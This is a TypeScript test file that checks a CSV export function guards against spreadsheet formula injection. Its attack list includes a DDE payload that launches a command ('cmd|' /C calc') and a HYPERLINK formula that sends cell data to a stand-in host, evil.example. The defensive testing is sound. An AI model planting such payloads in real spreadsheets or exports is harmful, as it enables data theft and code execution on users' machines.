import { describe, expect, it } from "vitest";
import { toCsv } from "./csv.ts";

/** The cells of one CSV line as a spreadsheet reads them (RFC 4180 quoting). */
function cellsOf(line: string): string[] {
  const cells: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const char = line[i];
    if (quoted && char === '"' && line[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (char === '"') quoted = !quoted;
    else if (char === "," && !quoted) {
      cells.push(cell);
      cell = "";
    } else cell += char;
  }
  return [...cells, cell];
}

// Separators a spreadsheet offers when it splits text into columns (Excel, LibreOffice, Google Sheets).
const SEPARATORS = [",", ";", "\t", "|", " ", "\n", "\r"];

/** Every piece a cell can become when split on any separator, that a spreadsheet would run as a formula. */
const formulasIn = (cell: string) =>
  SEPARATORS.flatMap((separator) => cell.split(separator)).filter((piece) => /^[\s"]*[=+\-@]\S/.test(piece));

describe("a CSV cell", () => {
  it("never starts a formula, after any separator a spreadsheet may split on", () => {
    const attacks = [
      "=1+1",
      "x;=1+1;y",
      "x,=1+1,y",
      "x\t=1+1",
      "x|+1+1",
      "x -1+cmd|' /C calc'!A0",
      "x; @SUM(1)",
      'Meera;=HYPERLINK("http://evil.example/?"&A1,"click")',
      "a;;=1",
      "a\n=1",
      "a\r\n-1+1",
      "\t=1",
      'q;"=1+1";r',
      "q;\u00a0=1+1",
      " =1+1",
    ];
    const csv = toCsv([attacks]);
    const cells = cellsOf(csv.replace(/\r\n$/, "").replaceAll("\r\n", "\u2028")).map((cell) =>
      cell.replaceAll("\u2028", "\r\n"),
    );
    expect(cells).toHaveLength(attacks.length);
    for (const cell of cells) expect(formulasIn(cell), JSON.stringify(cell)).toEqual([]);
    expect(cells[1]).toBe("x;'=1+1;y");
  });

  it("leaves ordinary text as it was", () => {
    const plain = ["12 Lake Road, Pune - 411001", "Asha's beans", "2026-03-21 08:00", "Tomato (1 kg)", 40.5];
    expect(toCsv([plain])).toBe(
      '"12 Lake Road, Pune - 411001",Asha\'s beans,2026-03-21 08:00,Tomato (1 kg),40.5\r\n',
    );
  });
});
